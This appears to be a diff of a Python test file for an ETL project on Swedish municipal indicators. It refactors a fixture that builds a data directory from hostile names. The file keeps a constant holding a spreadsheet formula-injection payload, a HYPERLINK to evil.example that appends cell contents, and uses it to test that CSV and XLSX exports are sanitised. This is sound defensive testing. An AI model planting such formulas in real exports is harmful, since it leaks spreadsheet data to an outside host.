@@ -10,7 +10,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-import shutil
 import zipfile
 from pathlib import Path
 
@@ -22,9 +21,10 @@ from etl.build import build_database
 from etl.fetch import fetch_run
 from etl.http import HttpPolicy
 from etl.meeting_snapshot import create_snapshot
-from indicators.catalogue import CATALOGUE_DIR, load_catalogue
+from indicators.catalogue import load_catalogue
 from tests.apptest import run_app
 from tests.kolada_server import KoladaTestServer, make_dataset
+from tests.own_catalogue import catalogue_with_own_series
 from views.meeting.tables import FORMULA_START, to_excel_csv, to_xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
@@ -39,13 +39,7 @@ def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A data directory built from hostile names: Karlstad is '=HYPERLINK(…)', other areas start with +, -, @;
     every KPI title starts with '=' after a second fetch (so "Nytt sedan" lists the changed titles and values)."""
     root = tmp_path_factory.mktemp("hostile")
-    cat = root / "catalogue"
-    shutil.copytree(CATALOGUE_DIR, cat, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
-    with (cat / "indicators.yaml").open("a", encoding="utf-8") as f:
-        f.write("  - id: egna_besok\n    series: egna:besok\n    life_stage: vuxna\n"
-                "    short_name: Besök (egna siffror)\n    goals: [halsoframjande]\n"
-                "    direction: higher_is_better\n    unit: percent\n    role: watch\n"
-                "    role_reason: Egna siffror från en kommun.\n    denominator: population\n    rank: false\n")
+    cat = catalogue_with_own_series(root / "catalogue")
     mp = pytest.MonkeyPatch()
     mp.setenv("NP_CATALOGUE_DIR", str(cat))
     try:
